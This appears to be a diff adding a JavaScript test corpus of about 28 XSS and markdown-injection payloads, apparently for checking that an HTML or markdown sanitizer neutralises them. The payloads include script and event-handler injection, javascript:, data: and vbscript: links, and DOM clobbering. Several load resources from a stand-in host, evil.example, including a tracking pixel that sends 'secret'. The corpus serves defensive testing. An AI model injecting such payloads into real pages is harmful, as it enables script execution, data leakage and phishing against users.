@@ -1,0 +1,30 @@
+const EVIL = 'https://evil.example'
+
+/** What runs, fetches or pretends in a page that trusts its data. */
+export const CORPUS = [
+  '<script>window.pwned = 1</script>',
+  `<img src=x onerror="window.pwned = 2"><img src="${EVIL}/beacon.png">`,
+  `<svg onload="window.pwned = 3"><use href="${EVIL}/x.svg#a"/></svg>`,
+  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e">`,
+  `<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>`,
+  `<style>@import url(${EVIL}/s.css); body { background: url(${EVIL}/bg) }</style><link rel=stylesheet href=${EVIL}/l.css>`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}"><base href="${EVIL}/">`,
+  `<form action="${EVIL}/f"><input autofocus onfocus="window.pwned = 5"></form>`,
+  `<video poster="${EVIL}/p"><source onerror="window.pwned = 6" src="${EVIL}/v"></video><audio src="${EVIL}/a" autoplay>`,
+  `<math><mi//xlink:href="data:x,<script>window.pwned = 7</script>">`,
+  '<details open ontoggle="window.pwned = 8">x</details>',
+  `![tracking](${EVIL}/pixel.png?d=secret) ![x](javascript:window.pwned=9) ![own](/api/auth/logout)`,
+  '[click](javascript:window.pwned=10) [click](JaVaScRiPt:window.pwned=11) [click](&#106;avascript:window.pwned=12)',
+  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTM8L3NjcmlwdD4=) [x](vbscript:x) [y](file:///etc/passwd)',
+  `[https://bank.example](${EVIL}/login) <${EVIL}/auto> ${EVIL}/bare`,
+  `[ref]\n\n[ref]: ${EVIL}/ref "onmouseover=window.pwned=14"`,
+  `[a](https://ok.example/"onmouseover="window.pwned=15)`,
+  '```html\n<script>window.pwned = 16</script>\n```\n`<img src=x onerror=window.pwned=17>`',
+  '| <img src=x onerror=window.pwned=18> |\n|---|\n| [x](javascript:window.pwned=19) |',
+  '&lt;script&gt;window.pwned = 20&lt;/script&gt; &#60;img src=x onerror=window.pwned=21&#62;',
+  '<a href="javascript:window.pwned = 22">x</a><a id=location name=cookie>clobber</a>',
+  '{{constructor.constructor("window.pwned = 23")()}} #{window.pwned = 24} <%= window.pwned = 25 %>',
+  '\u202Egpj.exe\u202C \uFEFF<ScRiPt/x>window.pwned = 26</ScRiPt>',
+  `${'> '.repeat(200)}<script>window.pwned = 27</script>`,
+  `${'['.repeat(500)}x${']'.repeat(500)}(javascript:window.pwned=28)`,
+]
